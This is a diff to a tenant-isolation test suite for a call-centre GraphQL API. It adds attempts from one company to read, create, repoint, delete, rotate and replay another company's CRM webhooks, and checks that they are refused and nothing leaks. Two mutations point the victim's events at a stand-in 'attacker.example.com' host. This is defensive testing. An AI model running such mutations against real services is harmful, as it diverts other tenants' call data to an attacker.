@@ -28,6 +28,8 @@ interface Tenant {
   queues: { defaultId: string; otherId: string };
   voicemail: { callSid: string; from: string; recordingUrl: string };
   supervisorToken: string;
+  /** A CRM webhook endpoint and one delivery of it (delivered, so nothing retries during the suite). */
+  webhook: { endpointId: string; secret: string; url: string; deliveryId: string; eventId: string };
 }
 
 interface World {
@@ -336,6 +338,69 @@ const MATRIX: Record<string, Entry> = {
         name: "B's calls overflowing to the attacker",
         document: `mutation($q: ID!) { updateQueue(id: $q, input: { overflowKind: NUMBER, overflowNumber: "+13055550398" }) { id overflowNumber } }`,
         variables: (w) => ({ q: B(w).queues.otherId }),
+      },
+    ],
+  },
+  'Query.webhookEndpoints': {
+    attacks: [
+      {
+        name: "B's webhook endpoints",
+        document: `query($c: ID!) { webhookEndpoints(companyId: $c) { id companyId url events enabled description previousSecretExpiresAt } }`,
+        variables: (w) => ({ c: B(w).companyId }),
+      },
+    ],
+  },
+  'Query.webhookDeliveries': {
+    attacks: [
+      {
+        name: "B's webhook deliveries",
+        document: `query($e: ID!) { webhookDeliveries(endpointId: $e, first: 10) { id endpointId eventId eventType status payload attempts { at statusCode } } }`,
+        variables: (w) => ({ e: B(w).webhook.endpointId }),
+      },
+    ],
+  },
+  'Mutation.createWebhookEndpoint': {
+    attacks: [
+      {
+        name: 'an endpoint for B (its events to the attacker)',
+        document: `mutation($c: ID!) { createWebhookEndpoint(input: { companyId: $c, url: "https://attacker.example.com/h", events: [CALL_ENDED] }) { secret endpoint { id companyId } } }`,
+        variables: (w) => ({ c: B(w).companyId }),
+      },
+    ],
+  },
+  'Mutation.updateWebhookEndpoint': {
+    attacks: [
+      {
+        name: "B's endpoint pointed at the attacker",
+        document: `mutation($e: ID!) { updateWebhookEndpoint(id: $e, input: { url: "https://attacker.example.com/h", enabled: true }) { id url companyId } }`,
+        variables: (w) => ({ e: B(w).webhook.endpointId }),
+      },
+    ],
+  },
+  'Mutation.deleteWebhookEndpoint': {
+    attacks: [
+      {
+        name: "B's endpoint",
+        document: `mutation($e: ID!) { deleteWebhookEndpoint(id: $e) }`,
+        variables: (w) => ({ e: B(w).webhook.endpointId }),
+      },
+    ],
+  },
+  'Mutation.rotateWebhookSecret': {
+    attacks: [
+      {
+        name: "B's secret",
+        document: `mutation($e: ID!) { rotateWebhookSecret(id: $e, graceHours: 0) { secret endpoint { id url } } }`,
+        variables: (w) => ({ e: B(w).webhook.endpointId }),
+      },
+    ],
+  },
+  'Mutation.replayWebhookDelivery': {
+    attacks: [
+      {
+        name: "B's delivery",
+        document: `mutation($d: ID!) { replayWebhookDelivery(id: $d) { id eventId payload } }`,
+        variables: (w) => ({ d: B(w).webhook.deliveryId }),
       },
     ],
   },
@@ -770,6 +835,29 @@ describe('tenant isolation: every root field, attacked from company A against co
       agents[0]!.token,
     );
     expect(beat.data?.heartbeat.presence).toEqual({ agentId: agents[0]!.id, online: true });
+    // A CRM webhook endpoint (Query.webhookEndpoints …) with one delivered event (Mutation.replayWebhookDelivery).
+    const hookUrl = `https://crm-${key}.example.com/hooks/secret-path-${key}`;
+    const { createWebhookEndpoint } = await server.admin(
+      `mutation($c: ID!, $u: String!) { createWebhookEndpoint(input: { companyId: $c, url: $u, events: [CALL_ENDED] }) { secret endpoint { id } } }`,
+      { c: companyId, u: hookUrl },
+    );
+    const at = new Date();
+    const delivery = await server.database.prisma.webhookDelivery.create({
+      data: {
+        endpointId: createWebhookEndpoint.endpoint.id,
+        companyId,
+        eventId: `evt_${key}-isolation-event`,
+        eventType: 'call.ended',
+        subject: voicemail.callSid,
+        body: JSON.stringify({ id: `evt_${key}-isolation-event`, data: { callSid: voicemail.callSid } }),
+        status: 'DELIVERED',
+        attempts: 1,
+        nextAttemptAt: at,
+        windowStartedAt: at,
+        createdAt: at,
+        deliveredAt: at,
+      },
+    });
     return {
       companyId,
       name,
@@ -778,6 +866,13 @@ describe('tenant isolation: every root field, attacked from company A against co
       queues,
       voicemail,
       supervisorToken: issueSupervisorToken.token,
+      webhook: {
+        endpointId: createWebhookEndpoint.endpoint.id,
+        secret: createWebhookEndpoint.secret,
+        url: hookUrl,
+        deliveryId: delivery.id,
+        eventId: delivery.eventId,
+      },
     };
   }
 
@@ -789,13 +884,15 @@ describe('tenant isolation: every root field, attacked from company A against co
           queues { ${QUEUE_FIELDS} } } }`,
     );
     const data = await server.admin(
-      `query($a: ID!, $b: ID!) {
+      `query($a: ID!, $b: ID!, $e: ID!) {
         presenceB: presence(companyId: $b) { agentId online sipRegistered status statusReason lastSeen leaseExpiresAt callState }
         presenceA: presence(companyId: $a) { agentId online status statusReason }
         voicemailsA: voicemails(companyId: $a) { id callSid companyId }
         voicemailsB: voicemails(companyId: $b) { id callSid companyId from recordingUrl }
+        webhooksB: webhookEndpoints(companyId: $b) { id companyId url events enabled description previousSecretExpiresAt updatedAt }
+        deliveriesB: webhookDeliveries(endpointId: $e, first: 200) { id eventId status attemptCount replayOf }
       }`,
-      { a: w.a.companyId, b: w.b.companyId },
+      { a: w.a.companyId, b: w.b.companyId, e: w.b.webhook.endpointId },
     );
     const tokens: unknown[] = [];
     for (const token of [w.b.supervisorToken, ...w.b.agents.map((a) => a.token)]) {
@@ -951,7 +1048,10 @@ describe('tenant isolation: every root field, attacked from company A against co
   };
 
   beforeAll(async () => {
-    server = await startServer({ env: { PRESENCE_TTL_MS: '120000', HEARTBEAT_INTERVAL_MS: '10000', SOCKET_GRACE_MS: '5000' } });
+    server = await startServer({
+      // Private networks allowed: the webhook endpoints' example.com hosts are not resolved when created (no DNS in tests).
+      env: { PRESENCE_TTL_MS: '120000', HEARTBEAT_INTERVAL_MS: '10000', SOCKET_GRACE_MS: '5000', WEBHOOKS_ALLOW_PRIVATE_NETWORKS: 'true' },
+    });
     w.a = await setUpTenant('alpha', '+13055550166');
     w.b = await setUpTenant('bravo', '+13055550277');
     needles = {
@@ -967,6 +1067,11 @@ describe('tenant isolation: every root field, attacked from company A against co
       'B recording URL': w.b.voicemail.recordingUrl,
       'B live voicemail CallSid': 'v3:bravo-live-voicemail',
       'B supervisor token': w.b.supervisorToken,
+      'B webhook endpoint id': w.b.webhook.endpointId,
+      'B webhook secret': w.b.webhook.secret,
+      'B webhook URL path': 'secret-path-bravo',
+      'B webhook delivery id': w.b.webhook.deliveryId,
+      'B webhook event id': w.b.webhook.eventId,
       ...Object.fromEntries(
         w.b.agents.flatMap((a, i) => [
           [`B${i + 1} id`, a.id],
@@ -1013,9 +1118,10 @@ describe('tenant isolation: every root field, attacked from company A against co
 
   it('sanity: the admin and supervisor B do see B (so the refusals below are not vacuous)', async () => {
     const admin = await server.admin(
-      `query($b: ID!) { presence(companyId: $b) { agentId sipUsername online } voicemails(companyId: $b) { callSid from recordingUrl }
-        company(id: $b) { id name agents { id displayName sipUsername } phoneNumbers { id e164 } queues { id name } } }`,
-      { b: w.b.companyId },
+      `query($b: ID!, $e: ID!) { presence(companyId: $b) { agentId sipUsername online } voicemails(companyId: $b) { callSid from recordingUrl }
+        company(id: $b) { id name agents { id displayName sipUsername } phoneNumbers { id e164 } queues { id name } }
+        webhookEndpoints(companyId: $b) { id url } webhookDeliveries(endpointId: $e) { id eventId } }`,
+      { b: w.b.companyId, e: w.b.webhook.endpointId },
     );
     expect(admin.presence.map((p: any) => [p.agentId, p.online])).toEqual([
       [w.b.agents[0]!.id, true],
@@ -1026,7 +1132,7 @@ describe('tenant isolation: every root field, attacked from company A against co
     // Every needle the leak search looks for (except secrets and later events) is real data of B.
     const text = JSON.stringify(admin);
     for (const [what, value] of Object.entries(needles)) {
-      if (/token|live voicemail/.test(what)) continue;
+      if (/token|live voicemail|webhook secret/.test(what)) continue;
       expect(text.includes(value), `admin view of B lacks ${what}`).toBe(true);
     }
     const asB = await http(
